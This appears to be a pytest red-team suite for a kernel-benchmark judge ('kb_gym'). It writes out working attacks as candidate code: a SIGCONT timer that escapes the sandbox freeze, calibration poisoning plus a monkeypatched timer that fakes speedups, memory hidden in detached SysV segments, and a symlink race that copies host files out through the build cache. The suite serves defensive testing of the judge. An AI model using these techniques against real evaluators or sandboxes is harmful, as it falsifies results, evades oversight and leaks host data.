"""Red team, round 5: the freeze, the memory watchdog, the build cache's copy.

Each test asserts the verdict a sound judge gives the attack (and, where it matters, that the next honest
evaluation on the same Evaluator is judged as on a fresh one). An attack that gets through is marked
``xfail(strict=True)`` with one line on how, until the judge is fixed. They run with ``integrity="off"``: the
design must hold when a static check misses.
"""

from __future__ import annotations

import os
import shutil
import tempfile
import uuid
from pathlib import Path

import pytest
from test_judge_isolation import CHECK, GELU, TIMED, cand, honest_after
from test_redteam_round4 import FIND_RUNNER, GELU_FORWARD

from kb_gym import Evaluator, Problem
from kb_gym.problems import reference_as_candidate

DEVICE = os.environ.get("KB_GYM_ADVERSARIAL_DEVICE", "cpu")
ON_CPU = DEVICE == "cpu"


@pytest.fixture(scope="module")
def ev():
    with Evaluator(DEVICE, results_path=False, baseline_cache=False) as e:
        yield e


def _fresh_gelu(tag: str, rows: int = 64) -> Problem:
    """GELU under code of its own (a calibration key no earlier evaluation filled), on ``rows`` x 1024 inputs."""
    code = GELU.code.replace("torch.randn(64, 256)", f"torch.randn({rows}, 1024)")
    return Problem(id=41, name=f"41_GELU_{tag}", level=1, code=code + f"\n# round 5: {tag} {uuid.uuid4().hex}\n")


# --- 1. a process the freeze cannot stop: a timer that sends it SIGCONT -------------------------------------
#
# RunnerProcess.frozen SIGSTOPs the runner's tree once (sandbox.freeze_tree) and then checks each process until
# it has seen every thread stopped or asleep once (sandbox.unstopped); a process that passed is never looked at
# again. A SIGCONT resumes a stopped process whenever it is generated, whoever generates it, and a POSIX timer
# (timer_create with SIGEV_SIGNAL, sigev_signo = SIGCONT) has the kernel generate one every 0.5 ms, so the
# process is stopped for at most 0.5 ms. Children of the runner set such a timer, sleep while the judge checks
# the freeze (the runner, PID 1 of their namespace, shows "T" in their /proc), then burn the CPU for as long as
# the runner stays stopped: that is, exactly while the spare calibrates the envelope and while the baseline
# runs. Round 2's calibration poisoning is back: on GELU over 512 x 1024 (outputs through the memfd, ~4.4 ms of
# honest overhead a call) the spare calibrated 8.6-22 ms of overhead and a tolerance of 8.5-12 ms instead of 4.4
# and 2, so a forward that sleeps 4 ms reports 1 us (round 4's lie) uncounted: ~300x, no side_stream. (On 64 x
# 256 the calls are short enough that the woken judge and spare still win the CPU: overhead unchanged.)

UNFREEZABLE = '''
import ctypes, signal
_libc = ctypes.CDLL(None, use_errno=True)


class _SigEvent(ctypes.Structure):
    _fields_ = [("value", ctypes.c_void_p), ("signo", ctypes.c_int), ("notify", ctypes.c_int),
                ("pad", ctypes.c_char * 48)]


class _Timespec(ctypes.Structure):
    _fields_ = [("s", ctypes.c_long), ("ns", ctypes.c_long)]


class _ITimerspec(ctypes.Structure):
    _fields_ = [("interval", _Timespec), ("value", _Timespec)]


def _unfreezable(period_ns=500_000):
    """The kernel sends this process SIGCONT every period: a SIGSTOP holds it that long at most."""
    signal.signal(signal.SIGCONT, lambda *a: None)  # handled, not ignored: the timer keeps firing
    timer = ctypes.c_void_p()
    _libc.timer_create(1, ctypes.byref(_SigEvent(None, signal.SIGCONT, 0)), ctypes.byref(timer))
    every = _Timespec(0, period_ns)
    _libc.timer_settime(timer, 0, ctypes.byref(_ITimerspec(every, every)), None)


def _runner_stopped():
    try:
        with open("/proc/1/stat", "rb") as fh:
            return fh.read().rsplit(b")", 1)[1].split()[0] == b"T"
    except OSError:
        return False
'''

BURNERS = UNFREEZABLE + '''

def _burn_while_the_judge_measures():
    _unfreezable()
    while True:
        if not _runner_stopped():
            time.sleep(0.001)
            continue
        time.sleep(0.03)  # asleep while the judge checks that the tree stopped
        while _runner_stopped():
            end = time.perf_counter() + 0.002
            while time.perf_counter() < end:
                pass


if os.getpid() == 1:  # the runner, not a process the judge imports the module in
    for _ in range(6):
        if os.fork() == 0:
            os.setsid()  # a scheduler group of its own
            try:
                _burn_while_the_judge_measures()
            finally:
                os._exit(0)
'''

_LIE = '''
_rm = sys.modules["kb_gym.worker.runner"]
_real = _rm.timed_call
def _lie(fn, inputs, device, flusher, *a, **k):
    return _real(fn, inputs, device, flusher, *a, **k)._replace(ms=1e-3, host_ms=1e-3)
_rm.timed_call = _lie
'''

POISON_AND_LIE = cand(FIND_RUNNER + BURNERS + _LIE, "time.sleep(0.004)\n" + GELU_FORWARD)
POISON_ONLY = cand(FIND_RUNNER + BURNERS)


@pytest.mark.xfail(strict=ON_CPU, reason="round 5: gets through: children resumed by a SIGCONT timer run through "
                   "RunnerProcess.frozen and poison the spare's calibration; a 5 ms forward claims 1 us, ~50x")
def test_a_process_resumed_by_its_own_sigcont_timer_does_not_escape_the_freeze(ev):
    r = ev.evaluate(_fresh_gelu("sigcont", 512), POISON_AND_LIE, config=TIMED)
    honest_after(ev, TIMED)
    if r.status == "runtime_error":  # refused as unstoppable: stopped
        assert "did not stop" in r.error, r.error
        return
    assert r.status == "correct", (r.status, r.error)
    assert "side_stream" in r.flags or r.speedup < 1.0, (r.speedup, r.flags, r.correctness.get("envelope"))


@pytest.mark.xfail(strict=ON_CPU, reason="round 5: gets through: the calibration measured beside SIGCONT-timer "
                   "burners is kept for the problem (job.CALIBRATION_TTL_S) and judges the next candidates")
def test_a_calibration_poisoned_through_a_sigcont_timer_does_not_judge_the_next(ev):
    problem = _fresh_gelu("sigcont_next", 512)
    ev.evaluate(problem, POISON_ONLY, config=TIMED)
    r = ev.evaluate(problem, reference_as_candidate(problem), config=TIMED)
    assert r.status == "correct", (r.status, r.error)
    envelope = r.correctness["envelope"]
    assert envelope["tolerance_ms"] < 5.0 and envelope["overhead_ms"] < 6.0, envelope


# --- 2. memory in System V segments that no process has attached ---------------------------------------------
#
# host_memory.tree_memory_bytes counts a SysV segment while a process of the tree maps it ("/SYSV..." in its
# maps). A segment attached, filled and detached again keeps its pages (no IPC_RMID: it lives as long as the
# runner's IPC namespace), in no map, descriptor or RSS. The IPC namespace's shmmax/shmall are the kernel's
# defaults (practically unlimited), and unlike the private /dev/shm nothing caps it at 64 MB: 2.1 GB in ten
# segments, each mapped only while it is filled, stay under a 2 GB limit that the same bytes in a bytes object
# exceed. On a host the stash is bounded only by RAM.

SYSV_STASH = cand('''
import ctypes, time
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]
_libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for _ in range(10):
    _id = _libc.shmget(0, 210 << 20, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    _p = _libc.shmat(_id, None, 0)
    if _libc.madvise(_p, 210 << 20, 23) != 0:  # MADV_POPULATE_WRITE, or touch every page
        ctypes.memset(_p, 1, 210 << 20)
    _libc.shmdt(_p)  # mapped by nobody from here on; the segment and its pages stay
time.sleep(1.0)  # several of the watchdog's 0.25 s polls
''')


def test_sysv_memory_control_trips_the_limit(ev):
    """The control: the same 2.1 GB as plain memory is over the 2 GB limit here (else the next test proves
    nothing)."""
    control = ev.evaluate(GELU, cand("import time\n_held = [bytes(210 << 20) + b'x' for _ in range(10)]\n"
                                     "time.sleep(1.0)\n"), config=CHECK.replace(memory_limit_mb=2000))
    assert control.status == "crash" and "memory" in (control.error or ""), (control.status, control.error)


@pytest.mark.xfail(strict=True, reason="round 5: gets through: SysV segments attached, filled and detached are in "
                   "no process's maps, descriptors or RSS (host_memory.tree_memory_bytes); 2.1 GB under a 2 GB limit")
def test_memory_in_detached_sysv_segments_counts_against_the_memory_limit(ev):
    r = ev.evaluate(GELU, SYSV_STASH, config=CHECK.replace(memory_limit_mb=2000))
    honest_after(ev)
    assert r.status == "crash" and "memory" in (r.error or ""), (r.status, r.error)


# --- 3. the build cache's copy, with a process the freeze does not hold --------------------------------------
#
# build_cache.keep copies the runner's build folder "with the runner and all its processes stopped"
# (frozen(asleep_is_stopped=False)), opening each file with O_NOFOLLOW: only the last component of a path is
# not followed. A child with the SIGCONT timer stops itself over and over until the judge has seen it stopped,
# then, while the judge copies a 400 MB file of ext/z, renames ext/z away and puts a link to a host folder in
# its place. The judge opens ext/z/secret_NN of the names it listed through the link: the host's file, copied
# into the cache entry of this source. The next runner of the same source gets it restored and returns it in
# its error text. (Round 2's swap of the files themselves is stopped by O_NOFOLLOW; the folder above is not.)

def _swap_during_keep(secret_dir: str) -> str:
    return cand(UNFREEZABLE + f'''
import os, time
_ext = os.environ["TORCH_EXTENSIONS_DIR"]
_z = os.path.join(_ext, "z")
if os.path.isdir(_z):  # the second evaluation: what the judge restored
    raise RuntimeError("restored: " + "|".join(open(os.path.join(_z, n)).read(80)
                                               for n in sorted(os.listdir(_z)) if n.startswith("secret")))
os.makedirs(_z)
for _i in range(32):
    with open(os.path.join(_z, "secret_%02d" % _i), "w") as _fh:
        _fh.write("decoy")
with open(os.path.join(_z, "big"), "wb") as _fh:
    _fh.truncate(400 << 20)  # sparse here; the judge's copy writes it out: hundreds of ms
_link = os.path.join(os.environ["TMPDIR"], "link")
os.symlink("{secret_dir}", _link)


def _swap():
    _unfreezable()
    while not _runner_stopped():  # the judge freezes the runner to keep its build
        time.sleep(0.0002)
    t0 = time.monotonic()
    while time.monotonic() - t0 < 0.02:  # stopped whenever the judge looks, until it has seen us stopped
        os.kill(os.getpid(), signal.SIGSTOP)
    time.sleep(0.08)  # the judge is copying "big" now (~0.3 s)
    os.rename(_z, _z + "_old")
    os.rename(_link, _z)


if os.getpid() == 1 and os.fork() == 0:
    try:
        _swap()
    finally:
        os._exit(0)
''')


@pytest.mark.xfail(strict=True, reason="round 5: gets through: a SIGCONT-timer child swaps a listed folder for a "
                   "link mid-copy; build_cache._copy_regular_files follows it (O_NOFOLLOW guards the last component)")
def test_the_build_cache_copies_nothing_through_a_folder_swapped_for_a_link(monkeypatch, tmp_path):
    secret_dir = Path(tempfile.mkdtemp(prefix="kb_gym_rt5_secret_"))
    secret = f"kb-secret-{uuid.uuid4().hex}"
    for i in range(32):
        (secret_dir / f"secret_{i:02d}").write_text(secret)
    (secret_dir / "big").write_text("")  # the judge's copystat of "big" looks it up through the link too
    cache = tmp_path / "extensions"
    monkeypatch.setenv("KB_GYM_EXTENSIONS_DIR", str(cache))
    source = _swap_during_keep(str(secret_dir))
    try:
        with Evaluator(DEVICE, results_path=False, baseline_cache=False) as fresh:
            first = fresh.evaluate(GELU, source, config=CHECK)
            copied = [p.name for p in cache.rglob("secret_*") if p.is_file() and secret in p.read_text()]
            second = fresh.evaluate(GELU, source, config=CHECK)
            honest_after(fresh)
    finally:
        shutil.rmtree(secret_dir, ignore_errors=True)
        shutil.rmtree(cache, ignore_errors=True)
    assert first.status == "correct", (first.status, first.error)
    assert not copied, f"the judge copied host files into the cache: {copied}"
    assert secret not in (second.error or ""), second.error
